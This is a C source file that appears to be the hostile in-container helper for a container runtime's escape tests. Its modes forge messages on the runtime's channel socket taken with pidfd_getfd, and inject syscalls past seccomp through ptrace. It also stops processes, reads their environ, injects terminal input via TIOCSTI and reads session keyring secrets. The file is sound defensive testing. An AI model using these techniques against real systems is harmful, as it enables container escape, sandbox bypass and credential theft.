/* runtime-attacker: the hostile container process of
   tests/integration/escapes-runtime.bats, which attacks moat's own
   processes while they are visible in the container (an exec'd process, or
   the init of a container created into a shared pid namespace, between its
   birth and its execve: the moat binary, with moat's channel).

   Built by the tests with `gcc -static -O2` and copied into the container's
   rootfs.  Every spinning mode is bounded in time (SECONDS), watches the
   pids about to be used in its pid namespace (ns_last_pid) and reports what
   it did in files of a directory the test reads (OUT, a bind-mounted host
   directory); the test checks the result from outside.  OUT/ready is
   written once the attacker spins.  "A moat process" below is a new pid
   whose comm names moat (the binary or its sealed copy, before execve).

     runtime-attacker hijack VICTIMFILE SECONDS OUT
       Take moat's channel socket out of each new process (pidfd_getfd; the
       container needs CAP_SYS_PTRACE), tell moat that the pid in VICTIMFILE
       (a host process) is "the process", send an ERROR and SIGKILL the
       process, as for an exec.  OUT/hijacked: one line per forged message
       sent; OUT/missed: one per channel whose runtime end was closed.

     runtime-attacker hijack-create VICTIMFILE SECONDS OUT
       The same against the init of a container created into this pid
       namespace (and any other new process with a channel): stop it,
       take its channel, tell moat the victim is the init, kill it and say
       READY in its name (the socket is kept open).

     runtime-attacker log SECONDS OUT
       Take the channel of each new process and send a LOG message full of
       control characters (a screen clear, colours, a forged "moat: error:"
       line, BEL, CR).  OUT/hijacked, OUT/missed: as for hijack.

     runtime-attacker stop SECONDS OUT
       SIGSTOP every new moat process and leave it stopped (no
       CAP_SYS_PTRACE needed); other new processes are continued.
       OUT/stopped: "PID COMM" per process left stopped.

     runtime-attacker noseccomp SECONDS OUT
       PTRACE_SEIZE each new moat process and turn its next syscall into
       mkdirat(OUT/unfiltered-PID) (what the seccomp profile of the test
       forbids).  OUT/noseccomp: one line per injection with its result.

     runtime-attacker inject PID OUT
       (not spinning) the same injection into one given moat process (the
       waiting init of a created container is pid 1 of its namespace).

     runtime-attacker survey SECONDS OUT
       Stop each new moat process, copy its /proc cmdline, environ and
       Seccomp line to OUT/survey.PID, continue it.

     runtime-attacker tiocsti TEXT OUT
       (not spinning) push TEXT and a newline into the input of the
       controlling terminal (/dev/tty) with TIOCSTI; OUT/tiocsti says what
       happened.

     runtime-attacker keys
       (not spinning) print this process's session keyring and the keys
       in it, with their payloads.

     runtime-attacker keyhost SECRET CMD ARGS...
       (on the host, as the caller of moat) join a new session keyring
       "moat-test-caller" holding a user key "caller-secret" = SECRET, then
       exec CMD.  */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *out_dir;

static void
report (const char *name, const char *fmt, ...)
{
  char path[4096], buf[65536];
  va_list ap;
  va_start (ap, fmt);
  int n = vsnprintf (buf, sizeof buf, fmt, ap);
  va_end (ap);
  if (n < 0)
    return;
  if ((size_t) n >= sizeof buf)
    n = sizeof buf - 1;
  snprintf (path, sizeof path, "%s/%s", out_dir, name);
  int fd = open (path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
  if (fd >= 0)
    {
      (void) !write (fd, buf, n);
      close (fd);
    }
}

static double
now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Up to max-1 bytes of a file, NULs made spaces (the empty string if it
   cannot be read); returns the length.  */
static size_t
slurp (const char *path, char *buf, size_t max)
{
  buf[0] = '\0';
  int fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return 0;
  ssize_t n = read (fd, buf, max - 1);
  close (fd);
  if (n < 0)
    n = 0;
  buf[n] = '\0';
  for (ssize_t i = 0; i < n; i++)
    if (buf[i] == '\0')
      buf[i] = ' ';
  return n;
}

static int lastpid_fd = -1;

static int
last_pid (void)
{
  char b[32];
  ssize_t n = pread (lastpid_fd, b, sizeof b - 1, 0);
  if (n <= 0)
    return -1;
  b[n] = '\0';
  return atoi (b);
}

static bool
is_moat (int p)
{
  char path[64], comm[64];
  snprintf (path, sizeof path, "/proc/%d/comm", p);
  slurp (path, comm, sizeof comm);
  return strstr (comm, "moat") != NULL;
}

/* Wait (at most 0.2 s) until p is stopped; false if it is gone or does
   not stop.  */
static bool
wait_stopped (int p)
{
  char path[64], buf[1024];
  snprintf (path, sizeof path, "/proc/%d/stat", p);
  for (int i = 0; i < 2000; i++)
    {
      if (slurp (path, buf, sizeof buf) == 0)
        return false;
      char *q = strrchr (buf, ')');
      if (q && q[1] && (q[2] == 'T' || q[2] == 't'))
        return true;
      usleep (100);
    }
  return false;
}

/* ---- the channel ---------------------------------------------------------- */

struct wire_header
{
  uint32_t kind;
  int32_t errnum;
  uint32_t aux;
  uint32_t len;
};
enum
{ MSG_PID = 4, MSG_LOG = 6, MSG_READY = 7, MSG_ERROR = 10 };

/* moat's channel in process p: a copy of its AF_UNIX SOCK_SEQPACKET fd,
   or -1.  */
static int
take_channel (int p, int *which)
{
  int pfd = syscall (SYS_pidfd_open, p, 0);
  if (pfd < 0)
    return -1;
  for (int fd = 3; fd < 64; fd++)
    {
      int g = syscall (SYS_pidfd_getfd, pfd, fd, 0);
      if (g < 0)
        continue;
      int type = 0, dom = 0;
      socklen_t l = sizeof type;
      if (getsockopt (g, SOL_SOCKET, SO_TYPE, &type, &l) == 0 && type == SOCK_SEQPACKET)
        {
          l = sizeof dom;
          if (getsockopt (g, SOL_SOCKET, SO_DOMAIN, &dom, &l) == 0 && dom == AF_UNIX)
            {
              close (pfd);
              *which = fd;
              return g;
            }
        }
      close (g);
    }
  close (pfd);
  return -1;
}

static int
send_msg (int s, uint32_t kind, uint32_t aux, const char *text)
{
  char buf[1024];
  struct wire_header h = { kind, 0, aux, text ? (uint32_t) strlen (text) : 0 };
  memcpy (buf, &h, sizeof h);
  if (text)
    memcpy (buf + sizeof h, text, h.len);
  return write (s, buf, sizeof h + h.len);
}

static int
read_victim (const char *file, double end)
{
  char buf[64];
  while (now () < end)
    {
      slurp (file, buf, sizeof buf);
      if (buf[0] >= '0' && buf[0] <= '9')
        return atoi (buf);
      usleep (20000);
    }
  return 0;
}

/* ---- the modes -------------------------------------------------------------- */

enum mode
{ HIJACK, HIJACK_CREATE, LOG, STOP, NOSECCOMP, SURVEY };

/* Each mode's action on a new pid: true when done with it (acted on, or
   not a moat process), false to try it again.  */
static bool
hijack (enum mode mode, int p, int victim)
{
  int which, s;
  if (mode == HIJACK_CREATE)
    {
      /* the init of the created container: stopped before it says READY */
      if (kill (p, SIGSTOP) < 0)
        return false;
      wait_stopped (p);
      s = take_channel (p, &which);
      if (s < 0)
        {
          kill (p, SIGCONT);
          return !is_moat (p);
        }
      /* let the process that made it tell moat its pid, then speak for it */
      usleep (50000);
      int a = send_msg (s, MSG_PID, victim, NULL);
      int r = kill (p, SIGKILL);
      int b = send_msg (s, MSG_READY, 0, NULL);
      /* too late when moat has closed its end already */
      report (a > 0 && b > 0 ? "hijacked" : "missed",
              "pid %d fd %d: sent PID(%d) %d, kill %d, READY %d\n", p, which, victim, a, r, b);
      /* kept open: moat's COMMITTED must find a peer */
      return true;
    }
  s = take_channel (p, &which);
  if (s < 0)
    return !is_moat (p);
  if (mode == LOG)
    {
      int a = send_msg (s, MSG_LOG, 1,
                        "\033[2J\033[31mforged\nmoat: error: the host is on fire\a\r");
      report (a > 0 ? "hijacked" : "missed", "pid %d fd %d: sent LOG %d\n", p, which, a);
    }
  else
    {
      int a = send_msg (s, MSG_PID, victim, NULL);
      int b = send_msg (s, MSG_ERROR, 0, "hijacked by the container");
      int r = kill (p, SIGKILL);
      report (a > 0 ? "hijacked" : "missed", "pid %d fd %d: sent PID(%d) %d, ERROR %d, kill %d\n",
              p, which, victim, a, b, r);
    }
  close (s);
  return true;
}

static bool
stop (int p)
{
  char path[64], comm[64];
  if (kill (p, SIGSTOP) < 0)
    return false;
  if (wait_stopped (p) && is_moat (p))
    {
      snprintf (path, sizeof path, "/proc/%d/comm", p);
      slurp (path, comm, sizeof comm);
      report ("stopped", "%d %s", p, comm);
    }
  else
    kill (p, SIGCONT);
  return true;
}

static bool
survey (int p)
{
  static char buf[65536];
  char path[64], name[64];
  if (kill (p, SIGSTOP) < 0)
    return false;
  if (wait_stopped (p) && is_moat (p))
    {
      snprintf (name, sizeof name, "survey.%d", p);
      snprintf (path, sizeof path, "/proc/%d/cmdline", p);
      slurp (path, buf, sizeof buf);
      report (name, "cmdline: [%s]\n", buf);
      snprintf (path, sizeof path, "/proc/%d/environ", p);
      slurp (path, buf, sizeof buf);
      report (name, "environ: [%s]\n", buf);
      snprintf (path, sizeof path, "/proc/%d/status", p);
      slurp (path, buf, sizeof buf);
      char *l = strstr (buf, "\nSeccomp:");
      if (l)
        report (name, "%.*s\n", (int) strcspn (l + 1, "\n"), l + 1);
    }
  kill (p, SIGCONT);
  return true;
}

/* The next syscall of p becomes mkdirat(OUT/unfiltered-P).  x86_64 only
   (the registers of the syscall ABI).  */
static bool
noseccomp (int p)
{
#ifndef __x86_64__
  report ("noseccomp", "pid %d: not on this architecture\n", p);
  return true;
#else
  if (ptrace (PTRACE_SEIZE, p, 0, PTRACE_O_TRACESYSGOOD) < 0)
    return false;
  ptrace (PTRACE_INTERRUPT, p, 0, 0);
  char dir[4096];
  snprintf (dir, sizeof dir, "%s/unfiltered-%d", out_dir, p);
  int status;
  bool checked = false;
  for (int steps = 0; steps < 10000; steps++)
    {
      if (waitpid (p, &status, __WALL) < 0 || WIFEXITED (status) || WIFSIGNALED (status))
        return true;
      if (!WIFSTOPPED (status))
        continue;
      if (!checked)
        {
          /* stopped: its comm is stable; a process past its execve is not
             moat's any more */
          checked = true;
          if (!is_moat (p))
            break;
        }
      if (WSTOPSIG (status) == (SIGTRAP | 0x80))
        {
          struct user_regs_struct r;
          ptrace (PTRACE_GETREGS, p, 0, &r);
          if (r.rax != (unsigned long) -ENOSYS)  /* a syscall exit */
            {
              ptrace (PTRACE_SYSCALL, p, 0, 0);
              continue;
            }
          /* the path below the stack pointer, the syscall replaced */
          unsigned long addr = (r.rsp - 8192) & ~7UL;
          size_t len = strlen (dir) + 1;
          for (size_t o = 0; o < len; o += 8)
            {
              unsigned long w = 0;
              memcpy (&w, dir + o, len - o < 8 ? len - o : 8);
              ptrace (PTRACE_POKEDATA, p, addr + o, w);
            }
          struct user_regs_struct saved = r;
          r.orig_rax = SYS_mkdirat;
          r.rdi = (unsigned long) AT_FDCWD;
          r.rsi = addr;
          r.rdx = 0755;
          ptrace (PTRACE_SETREGS, p, 0, &r);
          ptrace (PTRACE_SYSCALL, p, 0, 0);
          waitpid (p, &status, __WALL);
          ptrace (PTRACE_GETREGS, p, 0, &r);
          report ("noseccomp", "pid %d: mkdirat(%s) in place of syscall %llu = %lld\n", p,
                  dir, saved.orig_rax, (long long) r.rax);
          /* run the original syscall again */
          saved.rip -= 2;
          saved.rax = saved.orig_rax;
          ptrace (PTRACE_SETREGS, p, 0, &saved);
          break;
        }
      int sig = WSTOPSIG (status);
      if (status >> 16 == PTRACE_EVENT_STOP || sig == SIGTRAP)
        sig = 0;
      ptrace (PTRACE_SYSCALL, p, 0, sig);
    }
  ptrace (PTRACE_DETACH, p, 0, 0);
  return true;
#endif
}

static int
spin (enum mode mode, const char *victim_file, double seconds)
{
  lastpid_fd = open ("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  if (lastpid_fd < 0)
    {
      perror ("runtime-attacker: /proc/sys/kernel/ns_last_pid");
      return 2;
    }
  double end = now () + seconds;
  int victim = victim_file ? read_victim (victim_file, end) : 0;
  report ("ready", "pid %d, victim %d\n", getpid (), victim);
  int self = getpid (), seen = 0;
  while (now () < end)
    {
      int last = last_pid ();
      /* while a process is being born, ns_last_pid already names it */
      for (int p = last; p <= last + 1; p++)
        {
          if (p <= 1 || p == self || p <= seen || kill (p, 0) < 0)
            continue;
          bool done = false;
          switch (mode)
            {
            case HIJACK:
            case HIJACK_CREATE:
            case LOG:
              done = hijack (mode, p, victim);
              break;
            case STOP:
              done = stop (p);
              break;
            case NOSECCOMP:
              done = noseccomp (p);
              break;
            case SURVEY:
              done = survey (p);
              break;
            }
          if (done)
            seen = p;
        }
    }
  report ("done", "time is up\n");
  /* the container's init: it stays, the container keeps running */
  for (;;)
    pause ();
}

/* ---- one-shot modes ---------------------------------------------------------- */

static int
tiocsti (const char *text, const char *out)
{
  out_dir = out;
  char msg[1024];
  int fd = open ("/dev/tty", O_RDWR | O_CLOEXEC);
  if (fd < 0)
    {
      snprintf (msg, sizeof msg, "sid %d: open /dev/tty: %s\n", getsid (0), strerror (errno));
      report ("tiocsti", "%s", msg);
      fputs (msg, stdout);
      return 0;
    }
  char buf[1024];
  snprintf (buf, sizeof buf, "%s\n", text);
  size_t n = 0;
  for (const char *c = buf; *c; c++, n++)
    if (ioctl (fd, TIOCSTI, c) < 0)
      break;
  snprintf (msg, sizeof msg, "sid %d: /dev/tty opened; TIOCSTI: %zu of %zu bytes pushed%s%s\n",
            getsid (0), n, strlen (buf), n < strlen (buf) ? ": " : "",
            n < strlen (buf) ? strerror (errno) : "");
  report ("tiocsti", "%s", msg);
  fputs (msg, stdout);
  return 0;
}

static long
kc (int op, long a, long b, long c)
{
  return syscall (SYS_keyctl, op, a, b, c, 0);
}

static int
keys (void)
{
  char desc[256];
  long id = kc (KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0, 0);
  long n = id < 0 ? -1 : kc (KEYCTL_DESCRIBE, id, (long) desc, sizeof desc);
  printf ("session keyring %ld: %s\n", id, n > 0 ? desc : strerror (errno));
  int32_t ids[64];
  long len = id < 0 ? -1 : kc (KEYCTL_READ, id, (long) ids, sizeof ids);
  for (long i = 0; len > 0 && i < len / 4 && i < 64; i++)
    {
      char d[256], p[256];
      long dn = kc (KEYCTL_DESCRIBE, ids[i], (long) d, sizeof d);
      long pn = kc (KEYCTL_READ, ids[i], (long) p, sizeof p - 1);
      if (pn >= 0)
        p[pn < 255 ? pn : 255] = '\0';
      printf ("key %d: %s payload: %s\n", ids[i], dn > 0 ? d : "?", pn >= 0 ? p : "(unreadable)");
    }
  return 0;
}

static int
keyhost (const char *secret, char **cmd)
{
  if (kc (KEYCTL_JOIN_SESSION_KEYRING, (long) "moat-test-caller", 0, 0) < 0
      || syscall (SYS_add_key, "user", "caller-secret", secret, strlen (secret),
                  KEY_SPEC_SESSION_KEYRING) < 0)
    {
      perror ("runtime-attacker keyhost");
      return 125;
    }
  execvp (cmd[0], cmd);
  perror ("runtime-attacker keyhost: execvp");
  return 127;
}

int
main (int argc, char **argv)
{
  setvbuf (stdout, NULL, _IONBF, 0);
  const char *m = argc > 1 ? argv[1] : "";
  if (strcmp (m, "keys") == 0 && argc == 2)
    return keys ();
  if (strcmp (m, "keyhost") == 0 && argc >= 4)
    return keyhost (argv[2], argv + 3);
  if (strcmp (m, "tiocsti") == 0 && argc == 4)
    return tiocsti (argv[2], argv[3]);
  if (strcmp (m, "inject") == 0 && argc == 4)
    {
      out_dir = argv[3];
      alarm (10);
      int p = atoi (argv[2]);
      if (p <= 0 || !noseccomp (p))
        {
          report ("noseccomp", "pid %s: cannot seize it: %s\n", argv[2], strerror (errno));
          return 1;
        }
      return 0;
    }
  static const struct { const char *name; enum mode mode; bool victim; } modes[] = {
    { "hijack", HIJACK, true }, { "hijack-create", HIJACK_CREATE, true },
    { "log", LOG, false }, { "stop", STOP, false }, { "noseccomp", NOSECCOMP, false },
    { "survey", SURVEY, false },
  };
  for (size_t i = 0; i < sizeof modes / sizeof *modes; i++)
    if (strcmp (m, modes[i].name) == 0 && argc == (modes[i].victim ? 5 : 4))
      {
        const char *victim_file = modes[i].victim ? argv[2] : NULL;
        double seconds = atof (argv[argc - 2]);
        out_dir = argv[argc - 1];
        /* never outlive the test, whatever happens */
        alarm ((unsigned) seconds + 5);
        return spin (modes[i].mode, victim_file, seconds);
      }
  fprintf (stderr, "usage: runtime-attacker hijack|hijack-create VICTIMFILE SECONDS OUT\n"
           "       runtime-attacker log|stop|noseccomp|survey SECONDS OUT\n"
           "       runtime-attacker inject PID OUT\n"
           "       runtime-attacker tiocsti TEXT OUT\n"
           "       runtime-attacker keys\n"
           "       runtime-attacker keyhost SECRET CMD ARGS...\n");
  return 2;
}
